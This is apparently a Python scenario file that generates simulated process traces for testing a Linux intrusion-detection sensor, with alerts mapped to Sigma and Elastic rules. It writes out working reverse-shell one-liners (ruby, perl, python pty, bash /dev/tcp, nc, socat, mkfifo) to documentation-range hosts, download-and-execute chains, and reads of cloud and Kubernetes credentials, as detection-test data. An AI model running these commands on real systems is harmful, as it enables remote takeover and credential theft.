"""Scenarios of issue 17: servers known only by their role (they listen) or their launcher, the
attacks run below them, and `sh -c -- CMD` (glibc 2.38+ system()/popen()) for the exclusions.

Imported by generate.py, which calls register() with its own namespace (Sc, scenario, the
helpers and rule names). Extra expectation keys (checked by sensor-user/tests/scenarios.rs when
present): family (lineage.server.family), listen_port (lineage.server.listen_port), indicators
(lineage.indicators) and commands (lineage.shell.commands).
"""

GO_API = "/opt/api/bin/api"
JAVA17 = "/usr/lib/jvm/java-17-openjdk-amd64/bin/java"
JSPAWN17 = "/usr/lib/jvm/java-17-openjdk-amd64/lib/jspawnhelper"
NODE = "/usr/bin/node"
PY = "/usr/bin/python3.11"
RUBY = "/usr/bin/ruby3.1"
PERL = "/usr/bin/perl"
APP_UID = 1001


def register(g):
    Sc, scenario = g["Sc"], g["scenario"]
    SHELL, RECON, OUT, TEMPX = g["SHELL"], g["RECON"], g["OUT"], g["TEMPX"]
    php_fpm, apache = g["php_fpm"], g["apache"]

    def listen(s, pid, port):
        s.events.append({"type": "listen", "ts_ns": s.tick(), "pid": pid, "tid": pid,
                         "uid": s.procs[pid]["uid"], "family": "inet6", "addr": "::",
                         "port": port, "proto": "tcp"})

    def server(s, exe, argv, port, uid=APP_UID):
        """A server started by systemd that listens on `port`."""
        pid = s.spawn(1, exe, argv, uid=uid)
        if port is not None:
            listen(s, pid, port)
        return pid

    def expect(s, family=None, port=None, indicators=None, commands=None):
        a = s.expect[-1]
        if family is not None:
            a["family"] = family
        if port is not None:
            a["listen_port"] = port
        if indicators is not None:
            a["indicators"] = indicators
        if commands is not None:
            a["commands"] = commands

    def java_child(s, jvm, exe, argv):
        """JDK 12+: fork, exec jspawnhelper, exec the target in the same pid."""
        pid = s.fork(jvm)
        s.exec(pid, JSPAWN17, [JSPAWN17, "\x00\x00\x00\x0b:\x00\x00\x00\x0c"])
        return s.exec(pid, exe, argv)

    # ------------------------------------------------------------ attacks below role servers
    @scenario
    def r_go_sh_id():
        s = Sc("alert-role-go-binary-sh-id",
               "Sigma proc_creation_lnx_webshell_detection (sub_processes id); issue 17 (a Go binary serving HTTP matches no family)",
               "a Go HTTP server (/opt/api/bin/api) listens on 8080 and runs sh -c id through an injection: it is a server by role, family listener")
        api = server(s, GO_API, [GO_API, "-addr", ":8080"], 8080)
        sh = s.spawn(api, "/bin/sh", ["sh", "-c", "id"])
        s.alert(SHELL, api, sh)
        expect(s, family="listener", port=8080, commands=["id"])
        i = s.spawn(sh, "/usr/bin/id", ["id"])
        s.alert(RECON, api, i)
        expect(s, family="listener", port=8080)
        return s

    @scenario
    def r_fatjar_whoami():
        s = Sc("alert-role-fatjar-sh-whoami",
               "Sigma proc_creation_lnx_susp_java_children (java parent, sh child); CVE-2022-22965 Spring4Shell write-ups (fat jar, command endpoint)",
               "java -jar /srv/shop/app.jar listens on 8080; through jspawnhelper it runs sh -c whoami: java-appserver by role (its runtime's family)")
        jvm = server(s, JAVA17, ["java", "-Xmx512m", "-jar", "/srv/shop/app.jar"], 8080)
        sh = java_child(s, jvm, "/bin/sh", ["/bin/sh", "-c", "whoami"])
        s.alert(SHELL, jvm, sh)
        expect(s, family="java-appserver", port=8080)
        w = s.spawn(sh, "/usr/bin/whoami", ["whoami"])
        s.alert(RECON, jvm, w)
        return s

    @scenario
    def r_spring_launcher_pipe():
        s = Sc("alert-role-spring-launcher-curl-pipe-sh",
               "Sigma proc_creation_lnx_susp_pipe_shell; Elastic persistence_webserver_suspicious_child_execution (org.springframework.boot.loader.*)",
               "a Spring Boot app started by its launcher class (no listen seen) runs sh -c 'curl -fsSL http://203.0.113.5/x.sh | sh'")
        jvm = server(s, JAVA17, ["java", "-cp", "/srv/app/app.jar", "org.springframework.boot.loader.launch.JarLauncher"], None)
        sh = java_child(s, jvm, "/bin/sh", ["/bin/sh", "-c", "curl -fsSL http://203.0.113.5/x.sh | sh"])
        s.alert(SHELL, jvm, sh)
        expect(s, family="java-appserver", indicators=["download-to-shell"],
               commands=["curl -fsSL http://203.0.113.5/x.sh", "sh"])
        c = s.spawn(sh, "/usr/bin/curl", ["curl", "-fsSL", "http://203.0.113.5/x.sh"])
        s.alert(RECON, jvm, c)
        s2 = s.spawn(sh, "/bin/sh", ["sh"])
        s.alert(SHELL, jvm, s2)
        return s

    @scenario
    def r_ruby_reverse_shell():
        s = Sc("alert-role-ruby-server-reverse-shell",
               "Sigma proc_creation_lnx_ruby_reverse_shell; lnx_shell_susp_rev_shells (ruby TCPSocket)",
               "a Ruby HTTP server (ruby bin/shop-server, no known launcher in argv) listens on 9292 and runs ruby -rsocket -e with a TCPSocket reverse shell")
        rb = server(s, RUBY, ["ruby", "bin/shop-server"], 9292)
        r = s.spawn(rb, RUBY, ["ruby", "-rsocket", "-e", "c=TCPSocket.new('203.0.113.8',4444);while(cmd=c.gets);IO.popen(cmd,'r'){|io|c.print io.read}end"])
        s.alert(SHELL, rb, r)
        expect(s, family="ruby-web", port=9292)
        return s

    @scenario
    def r_perl_reverse_shell():
        s = Sc("alert-role-perl-server-reverse-shell",
               "Sigma proc_creation_lnx_perl_reverse_shell; lnx_shell_susp_rev_shells (perl socket)",
               "a Perl PSGI app served by perl /srv/api/server.pl on 5000 runs perl -e 'use Socket;...exec(\"/bin/sh -i\")'")
        pl = server(s, PERL, ["perl", "/srv/api/server.pl"], 5000)
        p = s.spawn(pl, PERL, ["perl", "-e", "use Socket;$i=\"203.0.113.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};"])
        s.alert(SHELL, pl, p)
        expect(s, family="perl-web", port=5000)
        sh = s.exec(p, "/bin/sh", ["/bin/sh", "-i"])
        s.alert(SHELL, pl, sh)
        expect(s, indicators=["interactive-shell"])
        return s

    @scenario
    def r_node_python_pty():
        s = Sc("alert-role-node-python-pty",
               "Sigma proc_creation_lnx_python_reverse_shell and proc_creation_lnx_python_pty_spawn; CVE-2025-55182 (React2Shell) child lists",
               "node dist/index.js (no server marker in argv) listens on 3000; it runs sh -c \"python3 -c 'import pty,socket,os;...pty.spawn(\\\"/bin/bash\\\")'\"")
        nd = server(s, NODE, ["node", "dist/index.js"], 3000)
        payload = "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.10\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'"
        sh = s.spawn(nd, "/bin/sh", ["/bin/sh", "-c", payload])
        s.alert(SHELL, nd, sh)
        expect(s, family="node-web", port=3000)
        py = s.spawn(sh, PY, ["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.10\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")"])
        s.alert(SHELL, nd, py)
        s.connect(py, "203.0.113.10", 4444)
        s.alert(OUT, nd, py, dest="203.0.113.10:4444")
        b = s.spawn(py, "/bin/bash", ["/bin/bash"])
        s.alert(SHELL, nd, b)
        return s

    @scenario
    def r_go_bash_dev_tcp():
        s = Sc("alert-role-go-bash-dev-tcp",
               "Sigma lnx_shell_susp_rev_shells ('bash -i >& /dev/tcp/') and lnx_susp_dev_tcp",
               "a Go binary on 8443 runs sh -c 'bash -i >& /dev/tcp/203.0.113.11/4444 0>&1'")
        api = server(s, "/usr/local/bin/edge-gw", ["edge-gw", "serve"], 8443)
        sh = s.spawn(api, "/bin/sh", ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.11/4444 0>&1"])
        s.alert(SHELL, api, sh)
        expect(s, family="listener", port=8443, indicators=["interactive-shell", "dev-tcp"],
               commands=["bash -i >&/dev/tcp/203.0.113.11/4444 0>&1"])
        b = s.exec(sh, "/bin/bash", ["bash", "-i"])
        s.alert(SHELL, api, b)
        expect(s, indicators=["interactive-shell"])
        s.connect(b, "203.0.113.11", 4444)
        s.alert(OUT, api, b, dest="203.0.113.11:4444")
        return s

    @scenario
    def r_node_token_theft():
        s = Sc("alert-role-node-k8s-token-theft",
               "Elastic persistence_webserver_suspicious_command_execution (/secrets/kubernetes.io/serviceaccount/); ATT&CK T1528",
               "a node server on 8080 runs sh -c 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'")
        nd = server(s, NODE, ["node", "/app/build/server.mjs"], 8080)
        sh = s.spawn(nd, "/bin/sh", ["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"])
        s.alert(SHELL, nd, sh)
        c = s.exec(sh, "/bin/cat", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"])
        s.alert(RECON, nd, c)
        return s

    @scenario
    def r_go_imds():
        s = Sc("alert-role-go-imds-token-theft",
               "Elastic cloud-credential lists (security-credentials); Sigma proc_creation_lnx_webshell_detection; ATT&CK T1552.005",
               "an SSRF-to-RCE in a Go server on 8080: it runs curl against the instance metadata service for IAM credentials")
        api = server(s, GO_API, [GO_API], 8080)
        c = s.spawn(api, "/usr/bin/curl", ["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/web"])
        s.alert(RECON, api, c)
        expect(s, family="listener", port=8080)
        s.connect(c, "169.254.169.254", 80)
        s.alert(OUT, api, c, dest="169.254.169.254:80")
        return s

    @scenario
    def r_dropped_dash():
        s = Sc("alert-role-dropped-dash-deletes-itself",
               "Sigma proc_creation_lnx_susp_execution_tmp_folder; issue 17 (a copied shell that runs one command and deletes itself)",
               "a listener runs sh -c 'cp /bin/dash /tmp/.d; /tmp/.d -c uname; rm -f /tmp/.d': the copy alerts from its exec path alone, the file already gone")
        api = server(s, GO_API, [GO_API], 8080)
        sh = s.spawn(api, "/bin/sh", ["sh", "-c", "cp /bin/dash /tmp/.d; /tmp/.d -c uname; rm -f /tmp/.d"])
        s.alert(SHELL, api, sh)
        expect(s, indicators=["temp-exec"], commands=["cp /bin/dash /tmp/.d", "/tmp/.d -c uname", "rm -f /tmp/.d"])
        s.spawn(sh, "/bin/cp", ["cp", "/bin/dash", "/tmp/.d"])
        d = s.spawn(sh, "/tmp/.d", ["/tmp/.d", "-c", "uname"])
        s.alert(TEMPX, api, d)
        expect(s, indicators=["temp-exec"])
        u = s.exec(d, "/usr/bin/uname", ["uname"])
        s.alert(RECON, api, u)
        s.exit(u)
        s.spawn(sh, "/bin/rm", ["rm", "-f", "/tmp/.d"])
        return s

    @scenario
    def r_fileless():
        s = Sc("alert-role-node-fileless-memfd",
               "ATT&CK T1620 (memfd_create + fexecve); Sigma proc_creation_lnx_susp_exec_from_dev_shm (the on-disk variant)",
               "a node server on 3000 executes a payload from memory: execveat(memfd, \"\", AT_EMPTY_PATH) reaches the kernel as /dev/fd/19")
        nd = server(s, NODE, ["node", "/srv/app/dist/main.js"], 3000)
        m = s.spawn(nd, "/dev/fd/19", ["[kworker/0:1]"])
        s.alert(TEMPX, nd, m)
        expect(s, family="node-web", indicators=["fileless"])
        return s

    @scenario
    def r_python_base64():
        s = Sc("alert-role-python-base64-pipe-bash",
               "Sigma proc_creation_lnx_base64_execution; Elastic '*|*base64 -d*'",
               "a Python service (python3 /srv/api/service_main.py, no server marker) listens on 8000 and runs sh -c 'echo aWQ7dW5hbWUgLWEK | base64 -d | bash'")
        py = server(s, PY, ["python3", "/srv/api/service_main.py"], 8000)
        sh = s.spawn(py, "/bin/sh", ["sh", "-c", "echo aWQ7dW5hbWUgLWEK | base64 -d | bash"])
        s.alert(SHELL, py, sh)
        expect(s, family="python-web", indicators=["decode-to-shell"],
               commands=["echo aWQ7dW5hbWUgLWEK", "base64 -d", "bash"])
        b64 = s.spawn(sh, "/usr/bin/base64", ["base64", "-d"])
        s.alert(RECON, py, b64)
        b = s.spawn(sh, "/bin/bash", ["bash"])
        s.alert(SHELL, py, b)
        return s

    @scenario
    def r_fatjar_wget_chmod():
        s = Sc("alert-role-fatjar-wget-chmod-run",
               "Sigma proc_creation_lnx_curl_wget_exec_tmp; Elastic persistence_webserver_suspicious_command_execution ('chmod +x')",
               "java -jar app.jar on 8080 (Log4Shell-style) runs sh -c 'wget -q -O /tmp/k http://203.0.113.7/k && chmod +x /tmp/k && /tmp/k'")
        jvm = server(s, JAVA17, ["java", "-jar", "/opt/inventory/inventory.jar", "--server.port=8080"], 8080)
        sh = java_child(s, jvm, "/bin/sh", ["/bin/sh", "-c", "wget -q -O /tmp/k http://203.0.113.7/k && chmod +x /tmp/k && /tmp/k"])
        s.alert(SHELL, jvm, sh)
        expect(s, family="java-appserver", indicators=["chmod-and-run", "temp-exec"])
        w = s.spawn(sh, "/usr/bin/wget", ["wget", "-q", "-O", "/tmp/k", "http://203.0.113.7/k"])
        s.alert(RECON, jvm, w)
        s.spawn(sh, "/bin/chmod", ["chmod", "+x", "/tmp/k"])
        k = s.spawn(sh, "/tmp/k", ["/tmp/k"])
        s.alert(TEMPX, jvm, k)
        return s

    @scenario
    def r_rust_nc_e():
        s = Sc("alert-role-rust-binary-nc-e",
               "Sigma proc_creation_lnx_netcat_reverse_shell",
               "a Rust HTTP service on 443 runs sh -c 'nc -e /bin/sh 203.0.113.2 4444'")
        api = server(s, "/usr/local/bin/ledger-api", ["ledger-api"], 443, uid=0)
        sh = s.spawn(api, "/bin/sh", ["sh", "-c", "nc -e /bin/sh 203.0.113.2 4444"])
        s.alert(SHELL, api, sh)
        nc = s.exec(sh, "/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "203.0.113.2", "4444"])
        s.alert(RECON, api, nc)
        expect(s, family="listener", port=443)
        return s

    @scenario
    def r_prefork_worker():
        s = Sc("alert-role-prefork-worker-sh",
               "issue 17 (a listener's forks are servers too); Falco 'Run shell untrusted' (worker processes)",
               "a custom pre-fork server listens on 7000 and forks two workers; a worker runs sh -c id: the ancestry runs from the master")
        m = server(s, "/opt/queue/bin/queued", ["queued", "--workers", "2"], 7000)
        w1 = s.fork(m)
        s.fork(m)
        sh = s.spawn(w1, "/bin/sh", ["sh", "-c", "id"])
        s.alert(SHELL, w1, sh, root=m)
        expect(s, family="listener", port=7000)
        i = s.spawn(sh, "/usr/bin/id", ["id"])
        s.alert(RECON, w1, i, root=m)
        return s

    @scenario
    def r_glibc238_recon():
        s = Sc("alert-role-sh-c-dashdash-recon",
               "glibc 2.38 NEWS (system() and popen() run 'sh -c -- CMD'); Sigma proc_creation_lnx_system_info_discovery",
               "a C++ server on 9000 calls system(\"uname -a; cat /etc/passwd\"), which glibc 2.38 runs as sh -c -- ...")
        api = server(s, "/usr/local/sbin/mediad", ["mediad"], 9000)
        sh = s.spawn(api, "/bin/sh", ["sh", "-c", "--", "uname -a; cat /etc/passwd"])
        s.alert(SHELL, api, sh)
        expect(s, commands=["uname -a", "cat /etc/passwd"])
        u = s.spawn(sh, "/usr/bin/uname", ["uname", "-a"])
        s.alert(RECON, api, u)
        c = s.spawn(sh, "/usr/bin/cat", ["cat", "/etc/passwd"])
        s.alert(RECON, api, c)
        return s

    @scenario
    def r_node_socat():
        s = Sc("alert-role-node-socat-tty",
               "Sigma lnx_shell_susp_rev_shells (socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:)",
               "a node server on 8080 runs socat with a bash -li pty to 203.0.113.4:4444")
        nd = server(s, NODE, ["node", "/srv/chat/index.js"], 8080)
        sh = s.spawn(nd, "/bin/sh", ["sh", "-c", "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.4:4444"])
        s.alert(SHELL, nd, sh)
        so = s.exec(sh, "/usr/bin/socat", ["socat", "exec:bash -li,pty,stderr,setsid,sigint,sane", "tcp:203.0.113.4:4444"])
        s.alert(RECON, nd, so)
        b = s.spawn(so, "/bin/bash", ["bash", "-li"])
        s.alert(SHELL, nd, b)
        expect(s, indicators=["interactive-shell"])
        return s

    @scenario
    def r_php_builtin_server():
        s = Sc("alert-role-php-builtin-server-shell",
               "Sigma proc_creation_lnx_webshell_detection; php.net built-in web server (php -S)",
               "php -S 0.0.0.0:8000 (the CLI's built-in server, not php-fpm) listens on 8000 and a web shell runs sh -c 'id'")
        ph = server(s, "/usr/bin/php8.2", ["php", "-S", "0.0.0.0:8000", "-t", "/srv/site"], 8000)
        sh = s.spawn(ph, "/bin/sh", ["sh", "-c", "id"])
        s.alert(SHELL, ph, sh)
        expect(s, family="listener", port=8000)
        return s

    @scenario
    def r_java_mkfifo():
        s = Sc("alert-role-fatjar-mkfifo-nc",
               "Sigma lnx_shell_susp_rev_shells (mkfifo backpipe) and proc_creation_lnx_mkfifo_named_pipe_creation_susp_location",
               "java -jar on 8080 runs sh -c 'rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 203.0.113.3 4444 > /tmp/p'")
        jvm = server(s, JAVA17, ["java", "-jar", "/srv/report/report.jar"], 8080)
        payload = "rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 203.0.113.3 4444 > /tmp/p"
        sh = java_child(s, jvm, "/bin/sh", ["/bin/sh", "-c", payload])
        s.alert(SHELL, jvm, sh)
        expect(s, indicators=["interactive-shell"],
               commands=["rm -f /tmp/p", "mkfifo /tmp/p", "cat /tmp/p", "/bin/sh -i 2>&1", "nc 203.0.113.3 4444 >/tmp/p"])
        mk = s.spawn(sh, "/usr/bin/mkfifo", ["mkfifo", "/tmp/p"])
        s.alert(RECON, jvm, mk)
        i = s.spawn(sh, "/bin/sh", ["/bin/sh", "-i"])
        s.alert(SHELL, jvm, i)
        nc = s.spawn(sh, "/usr/bin/nc.openbsd", ["nc", "203.0.113.3", "4444"])
        s.alert(RECON, jvm, nc)
        return s

    @scenario
    def r_ruby_dev_shm():
        s = Sc("alert-role-ruby-curl-dev-shm",
               "Sigma proc_creation_lnx_susp_exec_from_dev_shm; Elastic persistence_webserver_suspicious_child_execution (/dev/shm/*)",
               "a Ruby server on 9292 runs sh -c 'curl -so /dev/shm/x http://203.0.113.12/x; chmod 755 /dev/shm/x; /dev/shm/x'")
        rb = server(s, RUBY, ["ruby", "/srv/shop/bin/web"], 9292)
        sh = s.spawn(rb, "/bin/sh", ["sh", "-c", "curl -so /dev/shm/x http://203.0.113.12/x; chmod 755 /dev/shm/x; /dev/shm/x"])
        s.alert(SHELL, rb, sh)
        expect(s, family="ruby-web", indicators=["chmod-and-run", "temp-exec"])
        c = s.spawn(sh, "/usr/bin/curl", ["curl", "-so", "/dev/shm/x", "http://203.0.113.12/x"])
        s.alert(RECON, rb, c)
        s.spawn(sh, "/bin/chmod", ["chmod", "755", "/dev/shm/x"])
        x = s.spawn(sh, "/dev/shm/x", ["/dev/shm/x"])
        s.alert(TEMPX, rb, x)
        return s

    @scenario
    def r_python_aws_creds():
        s = Sc("alert-role-python-aws-credentials",
               "Elastic persistence_webserver_suspicious_command_execution (.aws/credentials); ATT&CK T1552.001",
               "a Python service on 8000 runs sh -c 'cat /home/app/.aws/credentials' through a template injection")
        py = server(s, PY, ["python3", "-m", "shop.api"], 8000)
        sh = s.spawn(py, "/bin/sh", ["sh", "-c", "cat /home/app/.aws/credentials"])
        s.alert(SHELL, py, sh)
        c = s.exec(sh, "/usr/bin/cat", ["cat", "/home/app/.aws/credentials"])
        s.alert(RECON, py, c)
        expect(s, family="python-web", port=8000)
        return s

    @scenario
    def r_helper_curl():
        s = Sc("alert-role-helper-script-curl",
               "issue 17 (download tools always alert below a server); Elastic persistence_webserver_suspicious_child_execution (curl, wget)",
               "a node server on 3000 runs a helper (python3 convert.py) whose injected argument makes it run curl: no shell in between, the download still alerts")
        nd = server(s, NODE, ["node", "/srv/media/server.js"], 3000)
        h = s.spawn(nd, PY, ["python3", "/srv/media/convert.py", "--in", "a.png"])
        c = s.spawn(h, "/usr/bin/curl", ["curl", "-s", "-o", "/tmp/x", "http://203.0.113.6/x"])
        s.alert(RECON, nd, c)
        expect(s, family="node-web")
        return s

    # ------------------------------------------------------------ benign
    @scenario
    def rb_php_mail_dashdash():
        s = Sc("benign-php-mail-sh-c-dashdash",
               "php-src ext/standard/mail.c (popen of sendmail_path); glibc 2.38 NEWS (popen runs 'sh -c -- CMD')",
               "php-fpm mail() on a glibc 2.38+ distribution: sh -c -- '/usr/sbin/sendmail -t -i' -> sendmail -> 127.0.0.1:25")
        m, w = php_fpm(s)
        sh = s.spawn(w, "/bin/sh", ["sh", "-c", "--", "/usr/sbin/sendmail -t -i"])
        sm = s.spawn(sh, "/usr/sbin/sendmail", ["/usr/sbin/sendmail", "-t", "-i"])
        s.connect(sm, "127.0.0.1", 25)
        return s

    @scenario
    def rb_php_mail_dashdash_from():
        s = Sc("benign-php-mail-sh-c-dashdash-with-from",
               "php-src ext/standard/mail.c (additional parameters -f); glibc 2.38 NEWS",
               "mod_php mail() with -f on Debian 13 (glibc 2.41): sh -c -- '/usr/sbin/sendmail -t -i -f info@example.org'")
        m, w = apache(s)
        sh = s.spawn(w, "/bin/dash", ["sh", "-c", "--", "/usr/sbin/sendmail -t -i -f info@example.org"])
        s.spawn(sh, "/usr/sbin/sendmail", ["/usr/sbin/sendmail", "-t", "-i", "-f", "info@example.org"])
        return s

    @scenario
    def rb_php_ffmpeg_dashdash():
        s = Sc("benign-php-ffmpeg-sh-c-dashdash",
               "Elastic persistence_webserver_unusual_command_execution exclusions (ffmpeg); glibc 2.38 NEWS",
               "a PHP app makes a thumbnail with shell_exec() on glibc 2.38+: sh -c -- 'ffmpeg -i /var/www/up/a.mp4 -vf scale=320:-1 /tmp/a.jpg'")
        m, w = php_fpm(s)
        sh = s.spawn(w, "/bin/sh", ["sh", "-c", "--", "ffmpeg -i /var/www/up/a.mp4 -vf scale=320:-1 /tmp/a.jpg"])
        s.spawn(sh, "/usr/bin/ffmpeg", ["ffmpeg", "-i", "/var/www/up/a.mp4", "-vf", "scale=320:-1", "/tmp/a.jpg"])
        return s

    @scenario
    def rb_sshd_login():
        s = Sc("benign-role-sshd-login-shell",
               "issue 17 (processes whose job is to give shells are not servers by role); OpenSSH sshd(8)",
               "sshd listens on 22; a login gets bash, which runs id and uname: sshd is not a server by role")
        d = server(s, "/usr/sbin/sshd", ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"], 22, uid=0)
        sess = s.fork(d, uid=1000)
        b = s.exec(sess, "/bin/bash", ["-bash"])
        s.spawn(b, "/usr/bin/id", ["id"])
        s.spawn(b, "/usr/bin/uname", ["uname", "-a"])
        return s

    @scenario
    def rb_jupyter_kernel():
        s = Sc("benign-role-jupyter-kernel-shell",
               "issue 17 (Jupyter and its kernels give shells by design); ipykernel's ZMQ ports",
               "a Jupyter kernel (python3 -m ipykernel_launcher) listens on its ZMQ port and a notebook cell runs !ls and !curl")
        lab = server(s, PY, ["/usr/bin/python3", "/usr/local/bin/jupyter-lab", "--no-browser"], 8888, uid=1000)
        k = s.spawn(lab, PY, ["/usr/bin/python3", "-m", "ipykernel_launcher", "-f", "/home/ana/.local/share/jupyter/runtime/kernel-1.json"])
        listen(s, k, 41235)
        sh = s.spawn(k, "/bin/sh", ["/bin/sh", "-c", "ls -la"])
        s.spawn(sh, "/bin/ls", ["ls", "-la"])
        s.spawn(k, "/usr/bin/curl", ["curl", "-sO", "https://example.org/data.csv"])
        return s
